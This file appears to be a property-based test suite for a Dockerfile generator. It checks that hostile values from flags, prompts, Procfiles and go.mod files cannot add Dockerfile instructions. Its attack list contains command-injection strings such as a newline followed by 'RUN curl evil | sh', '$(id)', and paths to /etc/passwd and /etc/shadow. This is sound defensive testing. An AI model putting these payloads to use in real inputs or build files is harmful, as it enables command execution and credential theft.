"""Hostile strings from the repository or a prompt never add a Dockerfile instruction.

Property: for any string placed where detection or a person supplies a value, either
validation refuses it (a one-line InputError) or the rendered Dockerfile has exactly
the instructions the template renders for a benign value, and exec-form arguments
come back from the JSON unchanged.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.detect import detect
from generator.render import render
from generator.validate import InputError, answers_for
from tests.dockerfile_text import final_stage, keywords

#: text that tries to break out: newlines, continuations, quotes, JSON and Jinja syntax
ATTACKS = st.sampled_from([
    "app\nRUN curl evil | sh", "x\\\nRUN id", '"]\nUSER 0', "{{ 7*7 }}", "{% raw %}", "$(id)", "`id`",
    "a\rUSER root", "a\u2028RUN id", "a\x00b", "a\x1b[31m", "../../etc/passwd", "/etc/shadow", "--mount=type=bind",
    "8080\nEXPOSE 22", "0", "-1", "99999", "1e3", "", " ", "a b", "a;b", "a&&b",
])
HOSTILE = st.one_of(ATTACKS, st.text(min_size=0, max_size=40),
                    st.builds(lambda a, b: a + b, ATTACKS, st.text(max_size=10)))
EXAMPLES = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

PROCFILE_APP = {
    "requirements.txt": "flask==3.0.3\ngunicorn==22.0.0\n",
    "app.py": "from flask import Flask\napp = Flask(__name__)\n",
}


def _repo(tmp: Path, files: dict) -> Path:
    for name, text in files.items():
        path = tmp / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return tmp


def _render_or_refuse(app, overrides):
    try:
        answers = answers_for(app, overrides)
    except InputError as error:
        assert "\n" not in str(error)
        return None, None
    return answers, render(answers)["Dockerfile"]


@pytest.fixture(scope="module")
def python_app(tmp_path_factory):
    root = _repo(tmp_path_factory.mktemp("py"), PROCFILE_APP)
    (app,) = detect(root).apps
    return app


@pytest.fixture(scope="module")
def go_app(tmp_path_factory):
    root = _repo(tmp_path_factory.mktemp("go"), {
        "go.mod": "module example.com/demo\n\ngo 1.22\n",
        "main.go": 'package main\n\nimport "net/http"\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n',
    })
    (app,) = detect(root).apps
    return app


@pytest.fixture(scope="module")
def baseline(python_app, go_app):
    """The instructions of each Dockerfile; an empty port means "none" (a command-line program: no EXPOSE)."""
    return {
        "python": keywords(render(answers_for(python_app, {}))["Dockerfile"]),
        "go": keywords(render(answers_for(go_app, {}))["Dockerfile"]),
        "python-cli": keywords(render(answers_for(python_app, {"port": "none"}))["Dockerfile"]),
        "go-cli": keywords(render(answers_for(go_app, {"port": "none"}))["Dockerfile"]),
    }


@EXAMPLES
@given(key=st.sampled_from(["app_name", "version", "port", "uid", "gid", "final", "syntax", "start_command"]),
       value=HOSTILE)
def test_prompt_or_flag_values_cannot_add_instructions(python_app, baseline, key, value):
    answers, dockerfile = _render_or_refuse(python_app, {key: value})
    if dockerfile is None:
        return
    expected = baseline["python" if answers["port"] else "python-cli"]
    if answers["syntax"]:
        assert dockerfile.startswith(f"# syntax={answers['syntax']}\n")
    assert keywords(dockerfile) == expected
    entrypoint = dict(final_stage(dockerfile))["ENTRYPOINT"]
    assert json.loads(entrypoint) == answers["start_command"]


@EXAMPLES
@given(key=st.sampled_from(["package", "app_name", "port", "port_setting"]), value=HOSTILE)
def test_go_flag_values_cannot_add_instructions(go_app, baseline, key, value):
    answers, dockerfile = _render_or_refuse(go_app, {key: value})
    if dockerfile is not None:
        expected = baseline["go" if answers["port"] else "go-cli"]
        if answers["port_setting"] and not answers["port_setting"].startswith("-"):  # a variable: one ENV line
            labels = len(expected) - expected[::-1].index("LABEL") - 1
            expected = expected[:labels] + ["ENV"] + expected[labels:]
        assert keywords(dockerfile) == expected


@EXAMPLES
@given(args=HOSTILE, env=HOSTILE)
def test_go_start_arguments_and_environment_cannot_add_instructions(go_app, baseline, args, env):
    """--args lands in the exec-form ENTRYPOINT and --env in one ENV line, or they are refused."""
    answers, dockerfile = _render_or_refuse(go_app, {"args": args})
    if dockerfile is not None:
        assert keywords(dockerfile) == baseline["go"]
        assert json.loads(dict(final_stage(dockerfile))["ENTRYPOINT"])[1:] == answers["args"]
    answers, dockerfile = _render_or_refuse(go_app, {"env": env})
    if dockerfile is not None:
        labels = len(baseline["go"]) - baseline["go"][::-1].index("LABEL") - 1  # ENV comes just before the labels
        expected = baseline["go"][:labels] + (["ENV"] if answers["env"] else []) + baseline["go"][labels:]
        assert keywords(dockerfile) == expected
        if answers["env"]:
            assert dict(final_stage(dockerfile))["ENV"] == " ".join(answers["env"])


@EXAMPLES
@given(line=HOSTILE)
def test_procfile_from_the_repository_cannot_add_instructions(tmp_path_factory, baseline, line):
    """A hostile Procfile `web:` line goes through detection, validation and rendering."""
    root = _repo(tmp_path_factory.mktemp("procfile"), {**PROCFILE_APP, "Procfile": f"web: {line}\n"})
    apps = detect(root).apps
    assert [app.language for app in apps] == ["python"]
    answers, dockerfile = _render_or_refuse(apps[0], {})
    if dockerfile is not None:
        assert keywords(dockerfile) == baseline["python"]
        assert json.loads(dict(final_stage(dockerfile))["ENTRYPOINT"]) == answers["start_command"]


@EXAMPLES
@given(module=HOSTILE)
def test_go_module_and_version_from_the_repository_cannot_add_instructions(tmp_path_factory, baseline, module):
    root = _repo(tmp_path_factory.mktemp("gomod"), {
        "go.mod": f"module {module}\n\ngo {module}\n",
        "main.go": 'package main\n\nimport "net/http"\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n',
    })
    for app in detect(root).apps:
        _, dockerfile = _render_or_refuse(app, {})
        if dockerfile is not None:
            assert keywords(dockerfile) == baseline["go"]
